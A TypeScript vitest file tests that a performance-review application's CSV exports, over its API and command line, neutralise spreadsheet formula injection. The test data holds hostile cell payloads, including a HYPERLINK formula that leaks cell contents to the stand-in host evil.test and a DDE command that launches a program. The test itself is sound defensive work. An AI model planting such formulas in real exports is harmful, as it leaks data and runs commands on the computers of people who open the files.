import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import type { Database } from '../src/db/database.ts';
import { runHighbar } from './run-highbar.ts';
import { openTestDatabase } from './db.ts';
import { signInCookie, startTestServer } from './server.ts';
import { api } from './forte-helpers.ts';
import { proposal } from './olr-helpers.ts';
import { buildAccount, buildPerson, type BuiltPerson } from './factories.ts';

// CSV formula injection (OWASP ASVS 5.0, V1.2.10): every CSV the product produces, over the HTTP
// API and the command line, with free text starting with each character a spreadsheet reads as a
// formula seeded into every field that reaches it. Every cell starting with one must come out
// disarmed by a leading quote (src/shared/csv-cells.ts), and the file must still parse back to
// the same values once that quote is taken off. A coverage check lists the CSV routes from
// /api/openapi.json and the CSV outputs from `highbar --help`, so a new export without a case
// here fails.

// NUL too, though PostgreSQL text cannot hold it, so it is not seeded.
const FORMULA_START = /^[=+\-@\t\r\0]/u;
const STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;
// One hostile opening per character: a link that leaks data, arithmetic, a DDE command.
const PAYLOAD: Record<(typeof STARTS)[number], string> = {
  '=': '=HYPERLINK("http://evil.test/?d="&A1,"open")',
  '+': '+SUM(1,2)',
  '-': '-2+3+cmd|\' /C calc\'!A0',
  '@': '@SUM(A1:A9)',
  '\t': '\t=1+1',
  '\r': '\r=1+1',
};
const hostile = (i: number, text: string) => `${PAYLOAD[STARTS[i % STARTS.length]!]} ${text}`;

let database: Database;
let app: FastifyInstance;
let http: ReturnType<typeof api>;
const clock = new Date('2026-11-02T09:00:00Z');
const tempDirs: string[] = [];

beforeAll(async () => {
  database = await openTestDatabase();
  app = await startTestServer(database.db, { now: () => clock });
  http = api(app);
});
afterAll(async () => {
  await app.close();
  await database.close();
  for (const dir of tempDirs) fs.rmSync(dir, { recursive: true, force: true });
});

/** The cells of a CSV export, checked: none starts a formula, and each parses back to its value. */
function readSafeCsv(text: string): { records: string[][]; disarmed: Set<string> } {
  const records = parse(text, { relax_quotes: false, skip_empty_lines: true }) as string[][];
  const disarmed = new Set<string>();
  for (const [r, record] of records.entries()) {
    for (const [c, cell] of record.entries()) {
      expect(FORMULA_START.test(cell), `row ${r} column ${c} starts a formula: ${JSON.stringify(cell)}`).toBe(false);
      if (cell.startsWith("'") && FORMULA_START.test(cell.slice(1))) disarmed.add(cell[1]!);
    }
  }
  return { records: records.map((record) => record.map((cell) => (cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell))), disarmed };
}

/** The named columns of each record (header row first), for comparing with what was stored. */
function columns(records: string[][], names: string[]): string[][] {
  const header = records[0]!;
  const index = names.map((name) => {
    expect(header, `column ${name}`).toContain(name);
    return header.indexOf(name);
  });
  return records.slice(1).map((record) => index.map((i) => record[i]!));
}

const sorted = (rows: string[][]) => [...rows].sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));

/** An organisation whose every free-text field opens with a formula character. */
async function buildHostileOrg() {
  let i = 0;
  const person = (manager: BuiltPerson | null, label: string, email: string) =>
    buildPerson(database.db, {
      employeeId: hostile(i, `E${i}`),
      name: hostile(i + 1, label),
      title: hostile(i + 2, 'Engineer'),
      team: hostile(i + 3, `Team ${i}`),
      attributes: { gender: hostile(i + 4, 'value'), site: hostile((i += 1) + 4, 'site') },
      manager,
      level: label === 'Lead' ? 'L8' : label === 'Manager' ? 'L6' : 'L5',
      email,
    });
  const lead = await person(null, 'Lead', 'lead@csv.test');
  const manager = await person(lead, 'Manager', 'manager@csv.test');
  const engineer = await person(manager, 'Engineer', 'engineer@csv.test');
  const peers: BuiltPerson[] = [];
  for (let p = 0; p < 6; p++) peers.push(await person(manager, `Peer ${p}`, `peer${p}@csv.test`));
  const accounts = {
    hr: await buildAccount(database.db, { roles: ['hr'], email: 'hr@csv.test', name: hostile(0, 'HR partner') }),
    lead: await buildAccount(database.db, { person: lead }),
    manager: await buildAccount(database.db, { person: manager }),
    engineer: await buildAccount(database.db, { person: engineer }),
    peers: await Promise.all(peers.map((p) => buildAccount(database.db, { person: p }))),
  };
  const cookies = { hr: '', lead: '', manager: '', engineer: '', peers: [] as string[] };
  const signIn = async () => {
    cookies.hr = await signInCookie(app, accounts.hr.email, accounts.hr.password, '10.40.0.1');
    cookies.lead = await signInCookie(app, accounts.lead.email, accounts.lead.password, '10.40.0.2');
    cookies.manager = await signInCookie(app, accounts.manager.email, accounts.manager.password, '10.40.0.3');
    cookies.engineer = await signInCookie(app, accounts.engineer.email, accounts.engineer.password, '10.40.0.4');
    cookies.peers = await Promise.all(accounts.peers.map((a, p) => signInCookie(app, a.email, a.password, `10.40.1.${p}`)));
  };
  await signIn();
  return { people: { lead, manager, engineer, peers }, accounts, cookies, signIn };
}

let org: Awaited<ReturnType<typeof buildHostileOrg>>;
let cycleId: number;
let sessionId: number;

/** Each export: how to fetch it, and the values it must carry, read from the API or the database. */
const HTTP_CASES: Record<string, () => Promise<void>> = {
  'GET /api/cycles/{id}/feedback/received.csv': async () => {
    const response = await http.get(org.cookies.engineer, `/api/cycles/${cycleId}/feedback/received.csv`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    const { records, disarmed } = readSafeCsv(response.body);
    // The same answers as the JSON the page reads, once the disarming quote is taken off.
    const json = (await http.get(org.cookies.engineer, `/api/cycles/${cycleId}/feedback/received`)).json() as { responses: { superpowers: string; improvements: string }[] };
    expect(json.responses).toHaveLength(6);
    expect(sorted(columns(records, ['superpowers', 'areas_of_improvement']))).toEqual(sorted(json.responses.map((r) => [r.superpowers, r.improvements])));
    expect([...disarmed].sort()).toEqual([...STARTS].sort());
  },
  'GET /api/calibration-sessions/{id}/export.csv': async () => {
    const response = await http.get(org.cookies.hr, `/api/calibration-sessions/${sessionId}/export.csv`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    const { records, disarmed } = readSafeCsv(response.body);
    const stored = await database.db
      .selectFrom('calibrated_ratings as cr')
      .innerJoin('people as p', 'p.id', 'cr.person_id')
      .leftJoin('people as m', 'm.id', 'cr.manager_id')
      .select(['cr.person_id', 'p.employee_id', 'p.name', 'm.name as manager'])
      .where('cr.session_id', '=', sessionId)
      .execute();
    const changes = await database.db
      .selectFrom('rating_changes as rc')
      .innerJoin('accounts as a', 'a.id', 'rc.changed_by')
      .select(['rc.person_id', 'a.name', 'rc.rationale'])
      .where('rc.session_id', '=', sessionId)
      .orderBy('rc.id')
      .execute();
    const last = new Map(changes.map((c) => [c.person_id, c]));
    expect(changes.length).toBeGreaterThanOrEqual(STARTS.length);
    expect(sorted(columns(records, ['employee_id', 'name', 'manager', 'last_changed_by', 'last_rationale']))).toEqual(
      sorted(stored.map((s) => [s.employee_id, s.name, s.manager ?? '', last.get(s.person_id)?.name ?? '', last.get(s.person_id)?.rationale ?? ''])),
    );
    expect([...disarmed].sort()).toEqual([...STARTS].sort());
  },
};

const runCli = (args: string[]) => runHighbar(args);

const ALPHA = fileURLToPath(new URL('./fixtures/metrics/devlake-alpha/', import.meta.url));

/** The DevLake fixture with its free-text ids and names opening with formula characters. */
function hostileDevLakeFolder(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'highbar-csv-injection-'));
  tempDirs.push(dir);
  for (const file of fs.readdirSync(ALPHA)) fs.copyFileSync(path.join(ALPHA, file), path.join(dir, file));
  const rewrite = (file: string, replace: (text: string) => string) => fs.writeFileSync(path.join(dir, file), replace(fs.readFileSync(path.join(dir, file), 'utf8')));
  rewrite('incidents.csv', (t) => t.replace(/^inc-1,/mu, '"=HYPERLINK(""http://evil.test"")",').replace(/^inc-2,/mu, '+inc-2,'));
  rewrite('cicd_pipelines.csv', (t) => t.replace(/^(p1),deploy,/mu, '$1,-deploy,').replace(/^(p2),deploy,/mu, '$1,@deploy,'));
  return dir;
}

const CLI_CASES: Record<string, () => Promise<void>> = {
  'dora derive': async () => {
    const input = hostileDevLakeFolder();
    const seen = new Set<string>();
    for (const table of ['project_incident_deployment_relationships', 'cicd_deployment_commits']) {
      const base = ['dora', 'derive', '--input', input, '--project', 'alpha', '--table', table];
      const csv = await runCli([...base, '--format', 'csv']);
      expect(csv.code, csv.stderr).toBe(0);
      const { records, disarmed } = readSafeCsv(csv.stdout);
      for (const c of disarmed) seen.add(c);
      // The same rows as the JSON output, once the disarming quote is taken off.
      const json = JSON.parse((await runCli([...base, '--format', 'json'])).stdout) as Record<string, string | number | null>[];
      const header = records[0]!;
      expect(records.slice(1)).toEqual(json.map((row) => header.map((name) => (row[name] === null ? '' : String(row[name])))));
    }
    expect([...seen].sort()).toEqual(['+', '-', '=', '@']);
  },
};

describe('CSV exports are safe against formula injection', () => {
  beforeAll(async () => {
    org = await buildHostileOrg();
    const created = await http.send(org.cookies.hr, 'POST', '/api/cycles', { name: hostile(2, 'cycle'), rootPersonId: org.people.lead.id, policy: 'humane' });
    expect(created.statusCode, created.body).toBe(201);
    cycleId = created.json().id;
    expect((await http.send(org.cookies.hr, 'POST', `/api/cycles/${cycleId}/launch`)).statusCode).toBe(200);
    // Six peers write about the engineer, each text opening with another formula character.
    const asked = await http.send(org.cookies.manager, 'POST', `/api/cycles/${cycleId}/peer-requests`, { subjectId: org.people.engineer.id, reviewerIds: org.people.peers.map((p) => p.id) });
    expect(asked.statusCode, asked.body).toBe(200);
    for (const [p, cookie] of org.cookies.peers.entries()) {
      const requestId = (await http.get(cookie, `/api/cycles/${cycleId}/tasks`)).json().feedbackToWrite[0].requestId;
      const body = { superpowers: hostile(p, 'runs the incident reviews'), improvements: hostile(p + 1, 'could write shorter design docs'), lpsChampioned: [], lpsToImprove: [] };
      const submitted = await http.send(cookie, 'POST', `/api/peer-requests/${requestId}/feedback/submit`, body);
      expect(submitted.statusCode, submitted.body).toBe(200);
    }
    // Ratings proposed in the manager review phase, then moved in a session with hostile rationales.
    clock.setTime(Date.parse('2027-01-05T09:00:00Z'));
    await org.signIn();
    const proposed = await http.send(org.cookies.lead, 'POST', `/api/cycles/${cycleId}/people/${org.people.manager.id}/proposal/submit`, proposal(4, 2));
    expect(proposed.statusCode, proposed.body).toBe(200);
    for (const person of [org.people.engineer, ...org.people.peers]) {
      const saved = await http.send(org.cookies.manager, 'POST', `/api/cycles/${cycleId}/people/${person.id}/proposal/submit`, proposal(4, 2));
      expect(saved.statusCode, saved.body).toBe(200);
    }
    const session = await http.send(org.cookies.hr, 'POST', '/api/calibration-sessions', { cycleId, rootPersonId: org.people.lead.id, name: hostile(3, 'session'), calibratorAccountIds: [org.accounts.hr.id, org.accounts.lead.id], blind: false });
    expect(session.statusCode, session.body).toBe(201);
    sessionId = session.json().id;
    const rows = (await http.get(org.cookies.hr, `/api/calibration-sessions/${sessionId}`)).json().rows as { person: { id: number }; version: number }[];
    for (const [r, row] of rows.slice(0, STARTS.length).entries()) {
      const moved = await http.send(org.cookies.hr, 'POST', `/api/calibration-sessions/${sessionId}/adjustments`, {
        personId: row.person.id,
        performance: 5,
        potential: 2,
        // Rationales are trimmed when stored, so tab and return reach the export through names.
        rationale: hostile(r, 'led the on-call redesign'),
        evidenceToChangeMind: hostile(r + 1, 'a design document they led'),
        version: row.version,
      });
      expect(moved.statusCode, moved.body).toBe(200);
    }
  });

  for (const [route, check] of Object.entries(HTTP_CASES)) it(`${route} disarms every formula cell and keeps the values`, check);
  for (const [command, check] of Object.entries(CLI_CASES)) it(`highbar ${command} --format csv disarms every formula cell and keeps the values`, check);

  it('covers every CSV the API and the command line produce', async () => {
    const document = (await app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
      paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>>;
    };
    const csvRoutes = Object.entries(document.paths).flatMap(([route, operations]) =>
      Object.entries(operations)
        .filter(([, operation]) => route.endsWith('.csv') || Object.values(operation.responses ?? {}).some((r) => Object.keys(r.content ?? {}).some((type) => type.startsWith('text/csv'))))
        .map(([method]) => `${method.toUpperCase()} ${route}`),
    );
    expect(csvRoutes.sort()).toEqual(Object.keys(HTTP_CASES).sort());
    // Commands whose usage offers CSV output (`--format csv|json` and the like).
    const help = (await runCli(['--help'])).stdout;
    const csvCommands = help
      .split('\n')
      .filter((line) => /--format [^\]]*\bcsv\b/u.test(line))
      .map((line) => line.trim().split(/ --| [A-Z]/u)[0]!.trim());
    expect(csvCommands.sort()).toEqual(Object.keys(CLI_CASES).sort());
  });
});
